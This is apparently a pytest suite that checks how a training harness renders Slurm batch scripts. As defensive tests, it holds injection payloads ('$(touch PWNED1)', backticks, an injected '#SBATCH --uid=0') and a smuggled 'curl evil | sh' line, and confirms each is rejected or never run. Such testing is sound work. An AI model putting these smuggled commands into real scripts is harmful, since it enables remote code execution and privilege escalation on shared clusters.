"""job.sbatch / array.sbatch rendering: resource lines, GPU presets, quoting, rejection, no secrets."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from harness import REPO_ROOT
from harness.config.compose import compose_run_config
from harness.engines import engine_module
from harness.engines.rendered import RenderedRun
from harness.launch.slurm import (
    ArrayGroup,
    ScriptValueRejected,
    check_env_setup,
    check_extra_sbatch,
    group_runs,
    launch_line,
    node_command,
    render_array_script,
    render_job_script,
    resource_directives,
    script_environment,
)

GPU_RECIPES = sorted(p.stem for p in (REPO_ROOT / "recipes").glob("gpu_*.yaml"))
# Every cluster preset whose accelerator is a GPU (whoever adds one gets its script checked here).
GPU_CLUSTERS = sorted(p.stem for p in (REPO_ROOT / "hydra_configs" / "cluster").glob("*.yaml")
                      if "accelerator: cpu" not in p.read_text())


def sbatch_lines(text: str) -> list[str]:
    return [line.removeprefix("#SBATCH ") for line in text.splitlines() if line.startswith("#SBATCH ")]


def srun_block(text: str) -> str:
    start = text.index("\nsrun ")
    return text[start:text.index("rc=$?", start)]


def render_for(overrides: list[str], run_dir: Path, extra_env=None):
    cfg = compose_run_config(overrides)
    run_dir.mkdir(parents=True, exist_ok=True)
    rendered = engine_module(cfg.engine.name).render(cfg, run_dir)
    return cfg, rendered, render_job_script(cfg, rendered, extra_env)


def bash_syntax_ok(text: str, tmp_path: Path) -> None:
    path = tmp_path / "check.sh"
    path.write_text(text)
    proc = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr


def test_cpu_run_on_the_local_cluster(tmp_path):
    cfg, rendered, text = render_for(
        ["cluster=local_slurm", "launcher=slurm_local", "tracking=disabled"], tmp_path / "000-deepspeed-dp2_zero2"
    )
    run_dir = tmp_path / "000-deepspeed-dp2_zero2"
    assert sbatch_lines(text) == [
        "--job-name=adhoc.000-deepspeed-dp2_zero2",
        f"--output={run_dir}/slurm-%j.out",
        "--open-mode=append",
        f"--chdir={run_dir}",
        "--export=ALL",
        "--partition=debug",
        "--nodes=1",
        "--ntasks-per-node=1",
        "--cpus-per-task=2",  # two CPU ranks, one core each
        "--time=00:10:00",
        "--requeue",
        "--signal=USR1@120",  # the warning ahead of the time limit (no predicted step time: the default lead)
    ]
    srun = srun_block(text)
    assert "--nodes=1 --ntasks=1 --ntasks-per-node=1 --export=ALL --kill-on-bad-exit=1" in srun
    assert '"$SLURM_NODEID"' in srun and '"$MASTER_ADDR"' in srun and '"$MASTER_PORT"' in srun
    assert "--nproc_per_node 2" in srun and f"-m harness.runtime.bench {run_dir}" in srun
    # Rendezvous: the first node's NodeAddr (names need not resolve), a port from the job id.
    assert 'scontrol show hostnames "$SLURM_JOB_NODELIST"' in text and "NodeAddr=" in text
    assert "export MASTER_PORT=$(( 20000 + SLURM_JOB_ID % 10000 ))" in text
    assert "export DS_ACCELERATOR=cpu" in text
    bash_syntax_ok(text, tmp_path)


def test_two_nodes_one_process_each(tmp_path):
    _, _, text = render_for(
        ["cluster=local_slurm", "launcher=slurm_local", "cluster.nodes=2", "cluster.accelerators_per_node=1"],
        tmp_path / "run",
    )
    assert "--nodes=2" in sbatch_lines(text) and "--cpus-per-task=1" in sbatch_lines(text)
    srun = srun_block(text)
    assert "srun --nodes=2 --ntasks=2 --ntasks-per-node=1" in srun
    assert "--nnodes 2 --nproc_per_node 1 --node_rank \"$SLURM_NODEID\"" in srun


GPU_CASES = [
    (["cluster=h100_8x8", "launcher=slurm_gpu", "model=llama3_1_8b", "layout.dp_shard=64",
      "layout.zero_stage=3"], True),
    (["cluster=h100_8x8", "launcher=slurm", "model=llama3_1_70b", "engine=fsdp", "layout.dp_shard=64"], False),
    *[([f"cluster={name}", "launcher=slurm_gpu"], True) for name in GPU_CLUSTERS],
    *[([f"recipes={name}", "launcher=slurm"], False) for name in GPU_RECIPES],
]


@pytest.mark.parametrize("overrides,exclusive", GPU_CASES, ids=[" ".join(c[0][:3]) for c in GPU_CASES])
def test_gpu_presets_render_multi_node_scripts(overrides, exclusive, tmp_path):
    cfg, rendered, text = render_for(overrides, tmp_path / "run")
    nodes, gpus = cfg.cluster.nodes, cfg.cluster.accelerators_per_node
    lines = sbatch_lines(text)
    assert cfg.cluster.accelerator != "cpu"
    assert f"--nodes={nodes}" in lines and "--ntasks-per-node=1" in lines
    assert f"--gres=gpu:{gpus}" in lines
    assert not any(line.startswith("--cpus-per-task") for line in lines)  # srun gets the node's CPUs instead
    assert ("--exclusive" in lines) == exclusive
    srun = srun_block(text)
    assert f"srun --nodes={nodes} --ntasks={nodes} --ntasks-per-node=1" in srun
    assert '--cpus-per-task="${SLURM_CPUS_PER_TASK:-${SLURM_CPUS_ON_NODE:-1}}"' in srun
    if rendered.launcher == "torchrun":
        assert f"--nnodes {nodes} --nproc_per_node {gpus} --node_rank \"$SLURM_NODEID\"" in srun
    elif rendered.launcher == "accelerate":
        assert f"--num_machines {nodes} --num_processes {nodes * gpus} --machine_rank \"$SLURM_NODEID\"" in srun
    assert "DS_ACCELERATOR" not in text
    bash_syntax_ok(text, tmp_path)


def test_site_values_come_from_the_launcher_config(tmp_path):
    _, _, text = render_for(
        ["cluster=h100_8x8", "launcher=slurm_gpu", "launcher.partition=gpu", "launcher.account=proj42",
         "launcher.qos=high", "launcher.constraint='h100&ib'", "launcher.time_limit=1-00:00:00",
         "launcher.gpus_per_node_gres=gpu:h100:8", 'launcher.extra_sbatch=["--mem=0","--reservation=bench"]',
         'launcher.env_setup=["module load cuda/12.4","source /shared/venv/bin/activate"]',
         "layout.dp_shard=64"],
        tmp_path / "run",
    )
    lines = sbatch_lines(text)
    for expected in ("--partition=gpu", "--account=proj42", "--qos=high", "--constraint=h100&ib",
                     "--time=1-00:00:00", "--gres=gpu:h100:8", "--mem=0", "--reservation=bench", "--exclusive"):
        assert expected in lines, (expected, lines)
    assert "module load cuda/12.4\nsource /shared/venv/bin/activate\n" in text
    # With env_setup the launcher and the hooks' Python come from what env_setup put on PATH.
    assert "PYTHON=python\n" in text and "exec python -m harness.launch.watchdog --node " in text
    assert " -- torchrun " in text


def test_nothing_is_hard_coded_for_a_site(tmp_path):
    _, _, text = render_for(["cluster=h100_8x8", "launcher=slurm", "layout.dp_shard=64"], tmp_path / "run")
    lines = sbatch_lines(text)
    assert not any(line.startswith(("--partition", "--account", "--qos", "--constraint")) for line in lines)
    assert "module " not in text and "--exclusive" not in lines


def test_script_runs_values_verbatim_never_executes_them(tmp_path):
    """Run the rendered job.sbatch in bash with stand-ins for scontrol/srun: every argv token and
    exported value arrives byte for byte, and no `$()`/backtick in them runs."""
    cfg = compose_run_config(["cluster=local_slurm", "launcher=slurm_local", "tracking=disabled"])
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    evil = ["$(touch PWNED1)", "`touch PWNED2`", "it's", 'say "hi"; touch PWNED3', "a\nb", "*", "~", "${HOME}"]
    recorder = "import json,os,sys; json.dump({'argv': sys.argv[1:], 'env': os.environ['EVIL']}, open('seen.json','w'))"
    rendered = RenderedRun(
        run_dir=str(run_dir), engine="deepspeed", launcher="torchrun", nnodes=1, nproc_per_node=1,
        argv=[sys.executable, "-c", recorder, *evil, "--rank={node_rank}", "{master_addr}:{master_port}"],
        env={"EVIL": "$(touch PWNED4) `touch PWNED5` '\"\n"},
    )
    script = run_dir / "job.sbatch"
    script.write_text(render_job_script(cfg, rendered))
    stubs = tmp_path / "bin"
    stubs.mkdir()
    (stubs / "scontrol").write_text(
        "#!/bin/bash\n"
        'if [[ $2 == hostnames ]]; then echo n1; echo n2; else echo "NodeName=n1 NodeAddr=10.1.2.3 Port=1"; fi\n'
    )
    (stubs / "srun").write_text('#!/bin/bash\nwhile [[ $1 == --* ]]; do shift; done\nSLURM_NODEID=0 exec "$@"\n')
    for stub in stubs.iterdir():
        stub.chmod(0o755)
    env = {**os.environ, "PATH": f"{stubs}:{os.environ['PATH']}", "SLURM_JOB_ID": "4242",
           "SLURM_JOB_NODELIST": "n[1-2]", "SLURM_CPUS_PER_TASK": "2"}
    proc = subprocess.run(["bash", str(script)], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    seen = json.loads((run_dir / "seen.json").read_text())
    assert seen["argv"] == [*evil, "--rank=0", "10.1.2.3:24242"], proc.stderr
    assert seen["env"] == rendered.env["EVIL"]
    assert not list(tmp_path.rglob("PWNED*"))
    # The hooks ran around it: RUNNING with the job record, then a final state (no metrics: FAILED).
    assert json.loads((run_dir / "slurm_job.json").read_text())["master_port"] == "24242"
    assert json.loads((run_dir / "status.json").read_text())["state"] == "FAILED"
    assert proc.returncode == 0  # the stand-in launcher exited 0


def test_node_command_placeholders_inside_tokens():
    command = launch_line(["torchrun", "--rdzv-endpoint={master_addr}:{master_port}", "a b"])
    assert command == "torchrun --rdzv-endpoint=\"$MASTER_ADDR\":\"$MASTER_PORT\" 'a b'"
    assert node_command(["torchrun", "--rdzv-endpoint={master_addr}:{master_port}", "a b"]) == f"exec {command}"


@pytest.mark.parametrize("field,value", [
    ("launcher.partition", "gpu\n#SBATCH --uid=0"),
    ("launcher.partition", "gpu part"),
    ("launcher.account", "x$(id)"),
    ("launcher.qos", "a'b"),
    ("launcher.time_limit", "1h"),
    ("launcher.constraint", "a b"),
    ("launcher.gpus_per_node_gres", "gpu:8\n"),
])
def test_bad_sbatch_values_are_rejected_by_name(field, value):
    cfg = compose_run_config(["launcher=slurm"])
    cfg = replace(cfg, launcher=replace(cfg.launcher, **{field.split(".")[1]: value}),
                  cluster=replace(cfg.cluster, accelerator="h100_sxm"))
    with pytest.raises(ScriptValueRejected, match=re.escape(field)):
        resource_directives(cfg, 1, 8)


@pytest.mark.parametrize("line,rule", [
    ("--mem=0\n#SBATCH --uid=0", "one sbatch option"),
    ("mem=0", "one sbatch option"),
    ("--output=/tmp/x", "which the harness writes itself"),
    ("--export=NONE", "which the harness writes itself"),
    ("--array=0-99", "which the harness writes itself"),
    # The spellings sbatch accepts for an owned option: a unique prefix, a short flag with its value attached.
    ("--out=/tmp/x", "sets --output"),
    ("-o/tmp/x", "sets --output"),
    ("-J name", "sets --job-name"),
    ("--comment=x --output=/tmp/p-%j.log", "one option"),
    ("--comment=%j", "'%' pattern"),
])
def test_bad_extra_sbatch_lines_are_rejected(line, rule):
    with pytest.raises(ScriptValueRejected, match=rule):
        check_extra_sbatch([line])


def test_env_setup_is_one_line_per_entry():
    lines = ["module load cuda", "source /v/bin/activate"]
    assert check_env_setup(lines) == lines
    with pytest.raises(ScriptValueRejected, match=r"env_setup\[1\]"):
        check_env_setup(["ok", "module load x\ncurl evil | sh"])


@pytest.mark.parametrize("name", ["WANDB_API_KEY", "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "AWS_SECRET_ACCESS_KEY"])
def test_credentials_are_never_written(name):
    with pytest.raises(ScriptValueRejected, match="--export=ALL"):
        script_environment({name: "x"})


def test_run_dir_that_sbatch_cannot_carry_is_rejected(tmp_path):
    for bad in ("with space", "pct%j"):
        run_dir = tmp_path / bad
        cfg = compose_run_config(["launcher=slurm", "tracking=disabled"])
        run_dir.mkdir()
        rendered = engine_module(cfg.engine.name).render(cfg, run_dir)
        with pytest.raises(ScriptValueRejected, match="run directory"):
            render_job_script(cfg, rendered)


def test_runs_group_by_resource_shape(tmp_path):
    def item(name, *overrides):
        cfg = compose_run_config(["cluster=local_slurm", "launcher=slurm_local", *overrides])
        return tmp_path / name, cfg, RenderedRun(str(tmp_path / name), cfg.engine.name, cfg.engine.launcher,
                                                 cfg.cluster.nodes, cfg.cluster.accelerators_per_node, ["x"])

    runs = [
        item("a"),
        item("b", "engine=fsdp"),  # another engine, same shape: same array
        item("c", "layout.zero_stage=3"),
        item("d", "cluster.nodes=2", "cluster.accelerators_per_node=1"),  # another shape
        item("e", "launcher.time_limit=00:20:00"),  # a longer limit is another request
        item("f", "launcher.array_concurrency=1"),  # another %K
        item("g", "cluster.nodes=2", "cluster.accelerators_per_node=1"),
    ]
    groups = group_runs(runs)
    assert [[p.name for p in g.run_dirs] for g in groups] == [["a", "b", "c"], ["d", "g"], ["e"], ["f"]]
    assert groups[0].concurrency == 2 and groups[3].concurrency == 1
    assert "--nodes=2" in groups[1].directives and "--time=00:20:00" in groups[2].directives


def test_array_script_reads_its_task_from_the_manifest(tmp_path):
    group = ArrayGroup(("--nodes=1", "--ntasks-per-node=1", "--time=00:10:00"), 2,
                       (tmp_path / "000-a", tmp_path / "001-b", tmp_path / "002-c"))
    manifest = tmp_path / "slurm" / "array-001.manifest"
    text = render_array_script(group, "grid", "array-001", manifest, manifest.parent)
    lines = sbatch_lines(text)
    assert "--array=0-2%2" in lines and "--job-name=grid.array-001" in lines
    assert lines[-4:] == ["--nodes=1", "--ntasks-per-node=1", "--time=00:10:00", "--signal=USR1@120"]
    assert 'RUN_DIR=$(sed -n "${line}p" "$MANIFEST")' in text
    assert 'exec bash "$RUN_DIR/job.sbatch"' in text
    bash_syntax_ok(text, tmp_path)


def test_array_dispatch_picks_line_task_plus_one(tmp_path):
    """The dispatcher part of array.sbatch, run in bash with a stand-in job.sbatch per run."""
    runs = []
    for name in ("000-a", "001-b", "002-c"):
        run = tmp_path / name
        run.mkdir()
        (run / "job.sbatch").write_text(f"echo ran {name} job $SLURM_JOB_ID\n")
        runs.append(run)
    manifest = tmp_path / "slurm" / "array-001.manifest"
    manifest.parent.mkdir()
    manifest.write_text("".join(f"{run}\n" for run in runs))
    group = ArrayGroup(("--nodes=1",), 2, tuple(runs))
    text = render_array_script(group, "grid", "array-001", manifest, manifest.parent)
    script = tmp_path / "array.sbatch"
    script.write_text(text)
    env = {**os.environ, "SLURM_ARRAY_TASK_ID": "1", "SLURM_ARRAY_JOB_ID": "70", "SLURM_JOB_ID": "72"}
    subprocess.run(["bash", str(script)], env=env, check=True, capture_output=True)
    assert (runs[1] / "slurm-72.out").read_text() == "ran 001-b job 72\n"
    assert not (runs[0] / "slurm-72.out").exists() and not (runs[2] / "slurm-72.out").exists()
    env["SLURM_ARRAY_TASK_ID"] = "7"
    assert subprocess.run(["bash", str(script)], env=env, capture_output=True).returncode == 2
